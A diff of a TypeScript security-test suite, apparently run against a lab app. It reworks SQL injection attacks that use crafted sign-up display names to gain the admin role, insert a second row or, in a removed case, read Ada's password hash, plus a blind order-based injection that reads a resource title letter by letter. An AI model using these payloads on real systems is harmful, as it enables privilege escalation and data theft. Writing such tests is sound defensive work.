@@ -21,35 +21,33 @@ async function signUpAs(target: Target, displayName: string): Promise<TracingCli
   return mallory.withToken(body.accessToken ?? '');
 }
 
+/** Looks like a sealed name, so that the column takes it; nobody will open it. */
+const NAME = String.raw`\001${'x'.repeat(44)}`;
+
+/** What only an administrator is shown. */
+async function signUpAsAdmin(target: Target, displayName: string): Promise<string | null> {
+  const ada = await target.person('ada');
+  const mallory = await signUpAs(target, displayName);
+  const { body } = await mallory.get<{ items?: { email: string }[] }>(
+    `/v1/users?email=${ada.email}`,
+  );
+  return body.items?.some(({ email }) => email === ada.email)
+    ? 'an administrator’s account, and with it the address of Ada'
+    : null;
+}
+
 const throughValues: Attack[] = [
   {
     id: 'sql-become-admin',
     title: 'Sign up under a display name that goes on as SQL, and be an administrator',
     needsLab: true,
-    run: async (target) => {
-      const ada = await target.person('ada');
-      const mallory = await signUpAs(target, `',$2,coalesce('admin',$3))--`);
-      const me = await mallory.get<{ role?: string }>('/v1/users/me');
-      const { body } = await mallory.get<{ items?: { email: string }[] }>(
-        `/v1/users?email=${ada.email}`,
-      );
-      const seen = body.items?.some(({ email }) => email === ada.email);
-      return seen && me.body.role === 'admin'
-        ? 'an administrator’s account, and with it the address of Ada'
-        : null;
-    },
+    run: (target) => signUpAsAdmin(target, `${NAME}',$4,coalesce('admin',$5))--`),
   },
   {
-    id: 'sql-read-hash',
-    title: 'Sign up under a display name that becomes Ada’s password hash',
+    id: 'sql-second-row',
+    title: 'Sign up under a display name that goes on as a second row, without a comment',
     needsLab: true,
-    run: async (target) => {
-      const ada = await target.person('ada');
-      const query = `SELECT password_hash FROM users WHERE email='${ada.email}'`;
-      const mallory = await signUpAs(target, `'||(${query})||'`);
-      const { body } = await mallory.get<{ displayName: string }>('/v1/users/me');
-      return body.displayName.startsWith('$argon2id$') ? 'Ada’s password hash' : null;
-    },
+    run: (target) => signUpAsAdmin(target, `${NAME}',$4,'admin'),($1,$2,$3,$2||'`),
   },
 ];
 
@@ -57,7 +55,7 @@ const throughValues: Attack[] = [
 type Question = (id: string, position: number, above: number) => string;
 
 const letter = (id: string, position: number) =>
-  `ascii(substr((SELECT content FROM resources WHERE id='${id}'),${position},1))`;
+  `ascii(substr((SELECT title FROM resources WHERE id='${id}'),${position},1))`;
 const asked: Question = (id, position, above) =>
   `(CASE WHEN ${letter(id, position)}>${above} THEN 1 ELSE -1 END)*ascii(resources.title)`;
 /** The same without white space and quotes, which comments and dollar quotes replace. */
@@ -70,7 +68,11 @@ const LETTERS = 6;
 
 async function readThroughOrder(target: Target, question: Question): Promise<string | null> {
   const [ada, eve] = [await target.person('ada'), await target.person('eve')];
-  const { id } = await target.resource(ada);
+  const made = await ada.client.post<{ id: string }>('/v1/resources', {
+    title: 'secret plan',
+    content: '',
+  });
+  const { id } = made.body;
   await eve.client.post('/v1/resources', { title: 'a', content: '' });
   await eve.client.post('/v1/resources', { title: 'b', content: '' });
   let text = '';
@@ -79,7 +81,7 @@ async function readThroughOrder(target: Target, question: Question): Promise<str
     if (next === null) return null;
     text += next;
   }
-  return text === 'secret' ? 'the content of Ada’s resource, letter by letter: secret...' : null;
+  return text === 'secret' ? 'the title of Ada’s resource, letter by letter: secret...' : null;
 }
 
 /** Halves the alphabet until one letter is left. */
